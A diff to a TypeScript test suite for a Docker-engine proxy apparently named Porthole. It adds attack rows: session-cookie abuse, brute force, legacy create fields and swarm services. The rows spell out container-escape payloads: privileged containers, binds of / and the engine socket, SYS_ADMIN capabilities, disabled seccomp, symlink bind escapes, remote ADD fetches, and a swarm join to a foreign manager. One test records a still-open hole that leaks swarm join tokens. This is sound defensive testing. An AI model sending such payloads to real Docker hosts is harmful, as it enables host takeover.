@@ -9,10 +9,10 @@ import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, inject, test, vi } from 'vitest';
-import { engineJson, engineRequest } from '../harness/engine-client.ts';
+import { engineJson, engineRequest, type JsonValue } from '../harness/engine-client.ts';
 import { createTar } from '../harness/tar.ts';
 import { ADMIN_TOKEN, startProxy, VIEWER_TOKEN, type TestProxy } from '../support/proxy.ts';
-import { engineSnapshot, expectEngineUnchanged, restoreEngine, settleExecs } from './engineState.ts';
+import { engineSnapshot, expectEngineUnchanged, restoreEngine, settleEngine } from './engineState.ts';
 import { rawExchange } from './rawHttp.ts';
 import {
   API,
@@ -30,6 +30,7 @@ import {
   type Auth,
   type Ctx,
   type HttpRow,
+  type ProxyName,
   type RawRow,
   type Row,
   type WsRow,
@@ -47,8 +48,10 @@ const outside = join(base, 'outside');
 const watched = [outside];
 
 let proxy: TestProxy;
+/** The main proxy, and the ones the session and brute-force rows need (started in their describe blocks). */
+const proxies: Partial<Record<ProxyName, TestProxy>> = {};
 let ctx: Ctx;
-let adminCookie = '';
+const cookies = { admin: '', revoked: '', expired: '' };
 const warnings: string[] = [];
 
 beforeAll(async () => {
@@ -60,6 +63,7 @@ beforeAll(async () => {
   vi.spyOn(console, 'warn').mockImplementation((...args: unknown[]) => void warnings.push(args.map(String).join(' ')));
 
   proxy = await startProxy(['--allow-bind', allowed]);
+  proxies.main = proxy;
   const image = env.fixtures.plain.ref;
   const tag = randomBytes(4).toString('hex');
   const cid = (await engineJson<{ Id: string }>(sock, 'POST', `/containers/create?name=attacks-target-${tag}`, { Image: image, Cmd: ['sleep', '600'], OpenStdin: true })).Id;
@@ -89,10 +93,20 @@ beforeAll(async () => {
     admin: ADMIN_TOKEN,
     viewer: VIEWER_TOKEN,
     origin: proxy.origin,
+    svc: '',
+    svcVersion: '',
   };
-  const login = await proxy.request('POST', '/auth/login', { token: null, body: { token: ADMIN_TOKEN } });
-  adminCookie = String(login.headers['set-cookie']).split(';')[0]!;
+  cookies.admin = await login(proxy);
+  cookies.revoked = await login(proxy);
+  const logout = await proxy.request('POST', '/auth/logout', { token: null, headers: { cookie: cookies.revoked, 'x-porthole': '1' } });
+  expect(logout.status).toBe(204);
 });
+
+async function login(p: TestProxy): Promise<string> {
+  const r = await p.request('POST', '/auth/login', { token: null, body: { token: ADMIN_TOKEN } });
+  expect(r.status).toBe(204);
+  return String(r.headers['set-cookie']).split(';')[0]!;
+}
 
 afterAll(async () => {
   vi.restoreAllMocks();
@@ -118,8 +132,16 @@ function authHeaders(auth: Auth | undefined): Record<string, string> {
       return { authorization: `Bearer ${ADMIN_TOKEN}` };
     case 'viewer':
       return { authorization: `Bearer ${VIEWER_TOKEN}` };
+    case 'wrong':
+      return { authorization: 'Bearer not-the-token-0123456789' };
     case 'cookie':
-      return { cookie: adminCookie };
+      return { cookie: cookies.admin };
+    case 'revoked-cookie':
+      return { cookie: cookies.revoked };
+    case 'expired-cookie':
+      return { cookie: cookies.expired };
+    case 'forged-cookie':
+      return { cookie: `__Host-porthole=${randomBytes(32).toString('base64url')}` };
     case 'none':
       return {};
   }
@@ -154,7 +176,9 @@ async function performHttp(row: HttpRow): Promise<Outcome> {
     // A string is sent as it is (raw JSON text); any other JSON value is serialised.
     body = typeof filled === 'string' || (typeof filled === 'object' && filled !== null) ? filled : JSON.stringify(filled);
   }
-  const r = await proxy.request(row.method, fill(row.path, ctx), { token: null, headers, ...(body !== undefined ? { body } : {}) });
+  const target = proxies[row.on ?? 'main'];
+  if (!target) throw new Error(`proxy ${row.on} is not running`);
+  const r = await target.request(row.method, fill(row.path, ctx), { token: null, headers, ...(body !== undefined ? { body } : {}) });
   return { status: r.status, body: r.text, before: [], closed: false };
 }
 
@@ -194,6 +218,7 @@ async function runRow(row: Row): Promise<void> {
         expect(got.closed).toBe(true);
       }
     }
+    if (row.expectAnswer) expect(got.body).toMatch(row.expectAnswer);
     if (row.expectError) {
       const error = (JSON.parse(got.body) as { error?: unknown }).error;
       expect(error, `answer: ${got.body}`).toMatch(row.expectError);
@@ -201,7 +226,7 @@ async function runRow(row: Row): Promise<void> {
     }
     await expectEngineUnchanged(sock, before, watched);
   } catch (e) {
-    if (upgraded) await settleExecs(sock);
+    if (upgraded) await settleEngine(sock);
     await restoreEngine(sock, before, watched);
     throw e;
   }
@@ -457,7 +482,7 @@ describe('upgrade abuse', () => {
         }),
       expectStatus: 400,
       expectError: /absolute-form/,
-      hole: 'the upgrade path parses req.url with new URL(), so an absolute-form target opens the console (101) where every HTTP route answers 400',
+      // Found by this suite: handleUpgrade read req.url with new URL(), and this opened the console (101).
     },
     {
       kind: 'raw',
@@ -468,7 +493,7 @@ describe('upgrade abuse', () => {
         }),
       expectStatus: 400,
       expectError: BAD_CHARS,
-      hole: 'new URL() resolves the dot segment and the console opens (101); normalize.ts would refuse this path',
+      // Found by this suite: new URL() resolved the dot segment and the console opened (101).
     },
   ]);
 });
@@ -512,16 +537,12 @@ describe('JSON tricks', () => {
     http('body on a no-body route: start with a HostConfig', 'POST', `${API}/containers/{stopped}/start`, 400, /takes no request body/, { body: { HostConfig: { Privileged: true } } }),
     http('body on a no-body route: kill with a smuggled JSON', 'POST', `${API}/containers/{cid}/kill`, 400, /takes no request body/, { body: { Cmd: ['id'] } }),
     // The 1.41 engine still reads HostConfig fields at the top level of a create body (runconfig's deprecated
-    // embedded *container.HostConfig), used when "HostConfig" is absent or null. The proxy judges only "HostConfig".
-    createBody('legacy top-level Privileged (no HostConfig)', { Image: '{image}', Privileged: true }, 403, /Privileged/, {
-      hole: 'forwarded: 201, and the engine creates a privileged container (HostConfig.Privileged=true on inspect)',
-    }),
-    createBody('legacy top-level Binds of / with "HostConfig": null', { Image: '{image}', HostConfig: null, Binds: ['/:/host'] }, 403, SOCKET, {
-      hole: 'forwarded: 201, and the engine binds the host root into the container',
-    }),
-    createBody('legacy top-level PidMode host and CapAdd', { Image: '{image}', PidMode: 'host', CapAdd: ['SYS_ADMIN'] }, 403, /PidMode|CapAdd/, {
-      hole: 'forwarded: 201, container in the host pid namespace with CAP_SYS_ADMIN',
-    }),
+    // embedded *container.HostConfig), used when "HostConfig" is absent or null. Found by this suite: the proxy
+    // judged only "HostConfig", and each of these made its container (201) as asked.
+    createBody('legacy top-level Privileged (no HostConfig)', { Image: '{image}', Privileged: true }, 403, PRIVILEGED),
+    createBody('legacy top-level Binds of / with "HostConfig": null', { Image: '{image}', HostConfig: null, Binds: ['/:/host'] }, 403, SOCKET),
+    createBody('legacy top-level PidMode host and CapAdd', { Image: '{image}', PidMode: 'host', CapAdd: ['SYS_ADMIN'] }, 403, /PidMode=host/),
+    createBody('legacy top-level CapAdd next to an innocent HostConfig', { Image: '{image}', HostConfig: {}, CapAdd: ['SYS_ADMIN'] }, 403, /CapAdd/),
   ]);
 });
 
@@ -577,9 +598,10 @@ describe('bind mounts and volumes', () => {
     bind('bind of /proc', '/proc', OUTSIDE_ALLOWED),
     bind('bind of a relative path', './data', /not an absolute path/),
     bind('bind of ~', '~/data', /not an absolute path/),
-    bind('bind through a symlink to a path that does not exist yet (outside the allowed dir)', '{allowed}/escape/made-by-engine', OUTSIDE_ALLOWED, {
-      hole: 'forwarded: 201. realpath() of a missing path fails, so only the lexical path is judged; on start the engine MkdirAll()s through the symlink and binds a new directory outside --allow-bind (see the test below)',
-    }),
+    // Found by this suite: realpath() of a missing path failed, so only the lexical path was judged; on start
+    // the engine MkdirAll()s through the symlink and binds a new directory outside --allow-bind.
+    bind('bind through a symlink to a path that does not exist yet (outside the allowed dir)', '{allowed}/escape/made-by-engine', OUTSIDE_ALLOWED),
+    mount('Mounts bind through a symlink to a missing path', { Type: 'bind', Source: '{allowed}/escape/new/deeper', Target: '/x' }, OUTSIDE_ALLOWED),
     mount('Mounts type bind of /', { Type: 'bind', Source: '/', Target: '/host' }, SOCKET),
     mount("Mounts type bind of the engine's socket", { Type: 'bind', Source: '{sock}', Target: '/docker.sock' }, SOCKET),
     mount('Mounts type bind through the /etc symlink', { Type: 'bind', Source: '{allowed}/etc-link', Target: '/x' }, /bind mount of \/etc refused/),
@@ -612,14 +634,15 @@ describe('bind mounts and volumes', () => {
     }
   });
 
-  // HOLE, end to end: create and start through the proxy; the engine creates the directory outside.
-  test.fails('HOLE: a bind through a symlink to a missing path creates a directory outside --allow-bind', async () => {
+  // End to end: create and (if that got through) start through the proxy; the engine must create nothing outside.
+  test('a bind through a symlink to a missing path creates no directory outside --allow-bind', async () => {
     const before = await engineSnapshot(sock, watched);
     try {
       const r = await proxy.request('POST', `${API}/containers/create`, { body: { Image: ctx.image, Cmd: ['true'], HostConfig: { Binds: [`${allowed}/escape/made-by-engine:/x`] } } });
       if (r.status === 201) await proxy.request('POST', `${API}/containers/${r.json<{ Id: string }>().Id}/start`);
       expect(existsSync(join(outside, 'made-by-engine')), 'the engine made a directory outside the allowed dir').toBe(false);
       expect(r.status).toBe(403);
+      await expectEngineUnchanged(sock, before, watched);
     } finally {
       await restoreEngine(sock, before, watched);
     }
@@ -639,29 +662,45 @@ describe('networks, builds, images, swarm', () => {
     http('build with networkmode=container:', 'POST', `${API}/build?networkmode=container:{cid}`, 403, /network mode container:/, { body: buildContext('FROM scratch\n') }),
     http('build with a cgroupparent', 'POST', `${API}/build?cgroupparent=/`, 403, /cgroup parent/, { body: buildContext('FROM scratch\n') }),
     http('build with BuildKit (version=2)', 'POST', `${API}/build?version=2`, 403, /BuildKit/, { body: buildContext('FROM scratch\n') }),
-    // Go's r.FormValue reads an x-www-form-urlencoded body too; the proxy judges only the URL query.
+    // Go's r.FormValue reads an x-www-form-urlencoded body too, and the proxy judges only the URL query.
     // (postBuild peeks 4 KiB of the body first, so the form pairs come after 8000 bytes of padding.)
-    http('build with remote= and networkmode=host in a form-encoded body', 'POST', `${API}/build`, 403, /remote URL is not allowed/, {
+    // Found by this suite: the engine read remote= from the body and dialled it. Now raw bodies go to the
+    // engine as application/x-tar, and a build context must be a tar whose Dockerfile the proxy has read.
+    http('build with remote= and networkmode=host in a form-encoded body', 'POST', `${API}/build`, 403, /not a valid tar/, {
       headers: { 'content-type': 'application/x-www-form-urlencoded' },
       body: Buffer.from(`pad=${'x'.repeat(8000)}&remote=${encodeURIComponent('http://127.0.0.1:1/ctx')}&networkmode=host`),
-      hole: 'forwarded: the engine reads remote= from the body and dials it (500 "error downloading remote context http://127.0.0.1:1/ctx")',
     }),
-    http('build whose Dockerfile ADDs a URL (the engine fetches it)', 'POST', `${API}/build?t=evil/added`, 403, /URL/, {
+    // Found by this suite: the classic builder in the engine fetched http://127.0.0.1:1/secret itself (from
+    // the engine's network namespace), the very fetch that remote= and fromSrc= are refused for.
+    http('build whose Dockerfile ADDs a URL (the engine fetches it)', 'POST', `${API}/build?t=evil/added`, 403, /ADDs a remote source/, {
       body: buildContext('FROM scratch\nADD http://127.0.0.1:1/secret /secret\n'),
-      hole: 'forwarded: the classic builder in the engine fetches http://127.0.0.1:1/secret itself, the fetch that remote= and fromSrc= are refused for',
+    }),
+    http('build whose Dockerfile ADDs a URL on a continuation line', 'POST', `${API}/build?t=evil/added`, 403, /ADDs a remote source/, {
+      body: buildContext('FROM scratch\nADD \\\n  http://127.0.0.1:1/secret \\\n  /secret\n'),
+    }),
+    http('build whose Dockerfile, named by dockerfile=, ADDs a git source', 'POST', `${API}/build?dockerfile=sub/Evil.df`, 403, /ADDs a remote source/, {
+      body: createTar([
+        { type: 'file', path: 'Dockerfile', content: 'FROM scratch\n' },
+        { type: 'file', path: 'sub/Evil.df', content: 'FROM scratch\nadd git@github.com:evil/repo.git /src\n' },
+      ]),
+    }),
+    http('build with a gzip-compressed context (hides the Dockerfile)', 'POST', `${API}/build`, 403, /compressed build contexts/, {
+      body: gzipSync(buildContext('FROM scratch\nADD http://127.0.0.1:1/secret /secret\n')),
     }),
     http('image create with fromSrc=http://', 'POST', `${API}/images/create?fromSrc={blobUrl}&repo=evil/imported&tag=1`, 403, /fromSrc/),
     http('image create with neither fromImage nor fromSrc', 'POST', `${API}/images/create?repo=evil/imported`, 403, /give fromImage/),
-    // Same trick for images/create: the engine reads r.Form, where the body's pairs come first.
-    http('image create with fromSrc=http:// in a form-encoded body', 'POST', `${API}/images/create?fromImage={image}`, 403, /fromSrc/, {
+    // Same trick for images/create: the engine reads r.Form, where the body's pairs come first. Found by this
+    // suite: the engine imported the URL as evil/imported:1. Now the body goes as a tar and the engine only
+    // sees the query's fromImage (an address where nothing listens: a pull that fails at once).
+    http('image create with fromSrc=http:// in a form-encoded body', 'POST', `${API}/images/create?fromImage=127.0.0.1:1/nothing&tag=1`, 500, undefined, {
       headers: { 'content-type': 'application/x-www-form-urlencoded' },
       body: 'fromImage=&fromSrc={blobUrl}&repo=evil/imported&tag=1',
-      hole: 'forwarded: 200 "Downloading from http://127.0.0.1:PORT/v2/...", the engine imports the URL as evil/imported:1',
+      expectAnswer: /127\.0\.0\.1:1.*connection refused/,
     }),
     // Once joined, the foreign manager schedules tasks here with binds of /, host network, added capabilities.
-    http('swarm join to a foreign manager', 'POST', `${API}/swarm/join`, 403, /join/, {
+    // Found by this suite: forwarded (the engine answered 400 only because this ListenAddr is empty).
+    http('swarm join to a foreign manager', 'POST', `${API}/swarm/join`, 403, /joining another swarm/, {
       body: { ListenAddr: '', AdvertiseAddr: '', RemoteAddrs: ['198.51.100.7:2377'], JoinToken: 'SWMTKN-1-attacker' },
-      hole: 'forwarded: the engine answers 400 "invalid ListenAddr" only because ListenAddr is empty; with a valid one it joins the attacker\'s swarm',
     }),
   ]);
 });
@@ -747,7 +786,7 @@ describe('browser: DNS rebinding and CSRF', () => {
   ]);
 
   test('positive: the same cookie with X-Porthole from our own page may write', async () => {
-    const r = await proxy.request('POST', '/auth/ticket', { token: null, headers: { cookie: adminCookie, 'x-porthole': '1', origin: ctx.origin } });
+    const r = await proxy.request('POST', '/auth/ticket', { token: null, headers: { cookie: cookies.admin, 'x-porthole': '1', origin: ctx.origin } });
     expect(r.status).toBe(200);
   });
 
@@ -756,5 +795,139 @@ describe('browser: DNS rebinding and CSRF', () => {
     expect(r.status).toBe(101);
     expect(r.messages[0]).toMatch(/"type":"started"/);
     expect(r.messages.at(-1)).toMatch(/"type":"exit","code":0/);
+  });
+});
+
+describe('legacy create layout, end to end', () => {
+  // End to end (found by this suite, where it made a privileged container with / bound): nothing is made.
+  test('a create with Privileged and Binds at the top level makes no privileged container', async () => {
+    const before = await engineSnapshot(sock, watched);
+    try {
+      const r = await proxy.request('POST', `${API}/containers/create`, { body: { Image: ctx.image, Privileged: true, Binds: ['/:/host'] } });
+      if (r.status === 201) {
+        const inspect = await engineJson<{ HostConfig: { Privileged: boolean; Binds: string[] | null } }>(sock, 'GET', `/containers/${r.json<{ Id: string }>().Id}/json`);
+        expect(inspect.HostConfig, 'what the engine made of the forwarded body').toEqual(expect.objectContaining({ Privileged: false, Binds: null }));
+      }
+      expect(r.status).toBe(403);
+      await expectEngineUnchanged(sock, before, watched);
+    } finally {
+      await restoreEngine(sock, before, watched);
+    }
+  });
+});
+
+describe('sessions: expired, revoked, forged cookies', () => {
+  beforeAll(async () => {
+    // 0.0005 h = 1.8 s sessions.
+    proxies['short-session'] = await startProxy(['--session-hours', '0.0005']);
+    cookies.expired = await login(proxies['short-session']);
+    const live = await proxies['short-session'].request('GET', '/auth/session', { token: null, headers: { cookie: cookies.expired } });
+    expect(live.status).toBe(200);
+    await new Promise((r) => setTimeout(r, 2000));
+  });
+  afterAll(() => proxies['short-session']?.close());
+
+  const csrf = { 'x-porthole': '1' };
+  table([
+    http('cookie from an expired session', 'POST', `${API}/containers/create`, 401, /not logged in/, { on: 'short-session', auth: 'expired-cookie', headers: csrf, body: { Image: '{image}' } }),
+    http('cookie from an expired session on a read', 'GET', `${API}/containers/json`, 401, /not logged in/, { on: 'short-session', auth: 'expired-cookie' }),
+    http('cookie from a logged-out (revoked) session', 'POST', `${API}/containers/create`, 401, /not logged in/, { auth: 'revoked-cookie', headers: csrf, body: { Image: '{image}' } }),
+    http('cookie from a logged-out session asks for a WebSocket ticket', 'POST', '/auth/ticket', 401, /not logged in/, { auth: 'revoked-cookie', headers: csrf }),
+    http('made-up session cookie', 'POST', `${API}/containers/{cid}/kill`, 401, /not logged in/, { auth: 'forged-cookie', headers: csrf }),
+  ]);
+});
+
+describe('brute force: after 5 wrong tokens the client is locked out', () => {
+  let sessionBefore = '';
+  beforeAll(async () => {
+    const p = await startProxy();
+    proxies.locked = p;
+    // A browser session made before the attack: cookies are not rate-limited (see the last test).
+    sessionBefore = await login(p);
+    for (let i = 0; i < 5; i++) {
+      const r = await p.request('GET', `${API}/containers/json`, { token: `wrong-guess-${i}-0123456789` });
+      expect(r.status).toBe(401);
+    }
+  });
+  afterAll(() => proxies.locked?.close());
+
+  table([
+    http('a sixth wrong token', 'GET', `${API}/containers/json`, 429, /too many failed attempts/, { on: 'locked', auth: 'wrong' }),
+    http('the right admin token from the same client, for a while', 'GET', `${API}/containers/json`, 429, /too many failed attempts/, { on: 'locked' }),
+    http('a privileged create with the right admin token while locked out', 'POST', `${API}/containers/create`, 429, /too many failed attempts/, { on: 'locked', body: { Image: '{image}' } }),
+    // login() answers with sendJson, not refuse(): neither failed logins nor lockouts are logged.
+    http('the right token on /auth/login while locked out', 'POST', '/auth/login', 429, /too many failed logins; try again in \d+ s/, {
+      on: 'locked',
+      auth: 'none',
+      body: { token: ADMIN_TOKEN },
+      unlogged: true,
+    }),
+    http('the viewer token while locked out', 'GET', `${API}/containers/json`, 429, /too many failed attempts/, { on: 'locked', auth: 'viewer' }),
+  ]);
+
+  test('the lockout says when to come back (Retry-After on login)', async () => {
+    const r = await proxies.locked!.request('POST', '/auth/login', { token: null, body: { token: ADMIN_TOKEN } });
+    expect(r.status).toBe(429);
+    expect(Number(r.headers['retry-after'])).toBeGreaterThan(0);
+    expect(Number(r.headers['retry-after'])).toBeLessThanOrEqual(60);
+  });
+
+  test('what the code does: a session cookie made before the lockout keeps working (only bearer tokens and logins are limited)', async () => {
+    const r = await proxies.locked!.request('GET', '/auth/session', { token: null, headers: { cookie: sessionBefore } });
+    expect(r.status).toBe(200);
+    expect(r.json()).toEqual({ role: 'admin' });
+  });
+});
+
+describe('swarm (the engine is a swarm manager here)', () => {
+  beforeAll(async () => {
+    await engineJson(sock, 'POST', '/swarm/init', { ListenAddr: '127.0.0.1:2377', AdvertiseAddr: '127.0.0.1' });
+    // A service with no replicas: it runs nothing, so the snapshots stay still; the update rows target it.
+    const svc = await engineJson<{ ID: string }>(sock, 'POST', '/services/create', {
+      Name: `attacks-svc-${randomBytes(4).toString('hex')}`,
+      TaskTemplate: { ContainerSpec: { Image: ctx.image, Command: ['sleep', '600'] } },
+      Mode: { Replicated: { Replicas: 0 } },
+    });
+    const inspect = await engineJson<{ Version: { Index: number }; Spec: Record<string, JsonValue> }>(sock, 'GET', `/services/${svc.ID}`);
+    ctx.svc = svc.ID;
+    ctx.svcVersion = String(inspect.Version.Index);
+    await settleEngine(sock);
+  }, 60_000);
+  afterAll(async () => {
+    await engineRequest(sock, 'POST', '/swarm/leave?force=true', undefined, {}, 30_000);
+  }, 60_000);
+
+  type Fields = { [k: string]: JsonValue };
+  const svcRow = (name: string, containerSpec: Fields, expectError: RegExp, task: Fields = {}): HttpRow =>
+    http(name, 'POST', `${API}/services/create`, 403, expectError, {
+      body: { Name: 'evil', TaskTemplate: { ContainerSpec: { Image: '{image}', Command: ['sleep', '600'], ...containerSpec }, ...task } },
+    });
+  table([
+    svcRow('service create with a bind of /', { Mounts: [{ Type: 'bind', Source: '/', Target: '/host' }] }, SOCKET),
+    svcRow("service create with a bind of the engine's socket", { Mounts: [{ Type: 'bind', Source: '{sock}', Target: '/docker.sock' }] }, SOCKET),
+    svcRow('service create with a volume bound to /etc (o=bind)', { Mounts: [{ Type: 'volume', Source: 'x', Target: '/x', VolumeOptions: { DriverConfig: { Name: 'local', Options: { o: 'bind', device: '/etc' } } } }] }, OUTSIDE_ALLOWED),
+    svcRow('service create with CapabilityAdd', { CapabilityAdd: ['CAP_SYS_ADMIN'] }, /CapabilityAdd/),
+    svcRow('service create with Sysctls', { Sysctls: { 'net.ipv4.ip_forward': '1' } }, /Sysctls/),
+    svcRow('service create with seccomp unconfined', { Privileges: { Seccomp: { Mode: 'unconfined' } } }, /Seccomp\.Mode unconfined/),
+    svcRow('service create with AppArmor disabled', { Privileges: { AppArmor: { Mode: 'disabled' } } }, /AppArmor\.Mode disabled/),
+    svcRow('service create with SELinux disabled', { Privileges: { SELinuxContext: { Disable: true } } }, /SELinuxContext\.Disable/),
+    svcRow('service create on the host network', {}, /Networks host shares a namespace/, { Networks: [{ Target: 'host' }] }),
+    svcRow('service create on the host network by id prefix', {}, /Networks .* is the host's network/, { Networks: [{ Target: '{hostNet}' }] }),
+    svcRow('service create as a plugin', {}, /plugin services/, { Runtime: 'plugin', PluginSpec: { Name: 'evil/plugin' } }),
+    http('service update adding a bind of /', 'POST', `${API}/services/{svc}/update?version={svcVersion}`, 403, SOCKET, {
+      body: { Name: 'evil', TaskTemplate: { ContainerSpec: { Image: '{image}', Mounts: [{ Type: 'bind', Source: '/', Target: '/host' }] } }, Mode: { Replicated: { Replicas: 0 } } },
+    }),
+    viewer('viewer reads the swarm unlock key', 'GET', `${API}/swarm/unlockkey`),
+    viewer('viewer leaves the swarm', 'POST', `${API}/swarm/leave?force=1`),
+    viewer('viewer removes a service', 'DELETE', `${API}/services/{svc}`),
+  ]);
+
+  // HOLE: GET /swarm is a viewer route and the engine puts both join tokens in it. With the manager token,
+  // anyone who reaches port 2377 joins a node of theirs as a manager and schedules what Porthole refuses.
+  test.fails('HOLE: a viewer reads the swarm join tokens', async () => {
+    const r = await proxy.request('GET', `${API}/swarm`, { token: VIEWER_TOKEN });
+    const tokens = r.status === 200 ? r.json<{ JoinTokens?: { Worker?: string; Manager?: string } }>().JoinTokens : undefined;
+    expect(tokens?.Manager, 'manager join token given to a viewer').toBeUndefined();
+    expect(tokens?.Worker, 'worker join token given to a viewer').toBeUndefined();
   });
 });
